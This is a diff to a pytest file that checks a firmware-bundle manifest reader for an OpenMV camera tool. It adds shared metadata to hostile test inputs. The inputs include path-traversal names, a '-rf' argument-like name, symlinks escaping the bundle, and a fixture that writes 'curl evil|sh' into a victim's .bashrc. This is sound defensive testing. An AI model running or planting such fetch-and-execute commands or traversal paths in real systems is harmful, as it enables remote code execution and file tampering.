@@ -19,6 +19,12 @@ from tinyinspect.tasks.cascade import merge
 ROOT = Path(__file__).parents[2]
 NONE = hashlib.sha256(b"").hexdigest()
 GOOD = {"sha256": NONE, "bytes": 0}
+FACTS = {
+    "board": "openmv_h7",
+    "firmware": {"oldest": "4.5.6", "newest": "5.0.0", "verified": "5.0.0"},
+    "expected": None,
+    "compiler": None,
+}
 NAMES = [
     "../x",
     "../../x",
@@ -36,17 +42,19 @@ NAMES = [
 NAMES += ["C:x", "a\0b", "\ud800", "a\n", "a.", "a/", "-rf", "x" * 200]
 CONTENTS = {
     "cut off": b'{"files":',
-    "empty": b'{"files":{}}',
+    "empty": json.dumps(FACTS | {"files": {}}).encode(),
+    "no facts": json.dumps({"files": {"x": GOOD}}).encode(),
+    "another time": json.dumps(FACTS | {"files": {"x": GOOD}, "expected": {"milliseconds": "soon"}}).encode(),
     "a list": b"[1,2]",
-    "no files": b"{}",
-    "null": b'{"files":{"x":null}}',
+    "no files": json.dumps(FACTS).encode(),
+    "null": json.dumps(FACTS | {"files": {"x": None}}).encode(),
     "no text": bytes(range(128, 160)),
     "nested": b"[" * 100_000,
     "nested in a fact": b'{"files":{},"x":' + b"[" * 100_000,
-    "no hash": b'{"files":{"x":{"sha256":"00","bytes":1}}}',
-    "no size": json.dumps({"files": {"x": {"sha256": NONE}}}).encode(),
-    "a negative size": json.dumps({"files": {"x": {"sha256": NONE, "bytes": -1}}}).encode(),
-    "one file to the camera": json.dumps({"files": {"x": GOOD, "X": GOOD}}).encode(),
+    "no hash": json.dumps(FACTS | {"files": {"x": {"sha256": "00", "bytes": 1}}}).encode(),
+    "no size": json.dumps(FACTS | {"files": {"x": {"sha256": NONE}}}).encode(),
+    "a negative size": json.dumps(FACTS | {"files": {"x": {"sha256": NONE, "bytes": -1}}}).encode(),
+    "one file to the camera": json.dumps(FACTS | {"files": {"x": GOOD, "X": GOOD}}).encode(),
     "too large": b" " * (LARGEST_BYTES + 1),
 }
 
@@ -87,7 +95,7 @@ def test_a_manifest_that_is_none(tmp_path, drive, content):
 
 @pytest.mark.parametrize("name", NAMES)
 def test_a_name_that_is_not_plain(tmp_path, drive, name):
-    bundle = bundle_of(tmp_path / "a/b/bundle", json.dumps({"files": {name: GOOD}}).encode())
+    bundle = bundle_of(tmp_path / "a/b/bundle", json.dumps(FACTS | {"files": {name: GOOD}}).encode())
     for place in (tmp_path / "a/b/x", tmp_path / "a/x", tmp_path / "a/b/bundle/x"):
         place.touch()
     assert "is no manifest" in refused(bundle, drive)
@@ -97,7 +105,7 @@ def test_a_file_outside_the_drive_stays_what_it_is(tmp_path, drive):
     (tmp_path / "victim").mkdir()
     (tmp_path / "victim/.bashrc").write_text("curl evil|sh\n")
     entry = {"sha256": hashlib.sha256(b"curl evil|sh\n").hexdigest(), "bytes": 13}
-    bundle = bundle_of(tmp_path / "a/bundle", json.dumps({"files": {"../../victim/.bashrc": entry}}).encode())
+    bundle = bundle_of(tmp_path / "a/bundle", json.dumps(FACTS | {"files": {"../../victim/.bashrc": entry}}).encode())
     refused(bundle, drive)
     assert [path.name for path in drive.iterdir()] == [MARK]
 
@@ -107,7 +115,7 @@ def test_a_file_that_is_none_of_the_bundle(tmp_path, drive, kind):
     (tmp_path / "secret").mkdir()
     (tmp_path / "secret/y").touch()
     name = "s/y" if kind == "folder" else "y"
-    bundle = bundle_of(tmp_path / "bundle", json.dumps({"files": {name: GOOD}}).encode())
+    bundle = bundle_of(tmp_path / "bundle", json.dumps(FACTS | {"files": {name: GOOD}}).encode())
     if kind == "file":
         (bundle / "y").symlink_to(tmp_path / "secret/y")
     elif kind == "folder":
@@ -133,7 +141,7 @@ def test_a_file_that_is_none_of_the_bundle(tmp_path, drive, kind):
 )
 def test_whatever_json_stands_there_ends_in_files_or_one_sentence(tmp_path_factory, content):
     folder = tmp_path_factory.mktemp("bundle")
-    (folder / MANIFEST).write_text(json.dumps(content))
+    (folder / MANIFEST).write_text(json.dumps(FACTS | content if isinstance(content, dict) else content))
     try:
         assert read_files(folder) == []
     except InputError as error:
